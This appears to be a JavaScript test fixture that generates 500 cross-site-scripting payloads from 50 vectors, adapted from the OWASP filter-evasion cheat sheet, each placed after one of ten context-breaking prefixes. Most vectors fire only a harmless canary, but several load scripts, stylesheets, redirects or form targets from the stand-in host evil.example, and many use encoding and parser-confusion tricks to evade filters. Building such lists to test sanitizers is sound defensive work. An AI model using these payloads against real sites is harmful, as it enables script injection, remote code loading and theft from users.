// Texts that would be scripts if a page took them for markup, each after whatever would end the place that it stands in.
// https://owasp.org/www-community/xss-filter-evasion-cheatsheet

const ends = ["", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", '\\";', "`]}"];

const run = "window.canary=1";

const vectors = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr\u0000ipt>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//evil.example/x.png>`,
  `<img/src="x"/onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
  `<svg><style>@import'//evil.example/x.css'</style></svg>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<xss style=animation-name:x onanimationstart=${run}>`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${run}>`,
  `<style>body{background:url(//evil.example/x)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><button autofocus onfocus=${run}>x</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u2028${run}\u2029//`,
  `${"javascript"}:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  "${" + run + "}",
];

/** 500 texts: each of 50 after each of ten ends, with an override of the direction here and there. */
export const payloads = vectors.flatMap((vector, row) =>
  ends.map((end, column) => `${end}${(row + column) % 7 === 0 ? "\u202e" : ""}${vector}`),
);
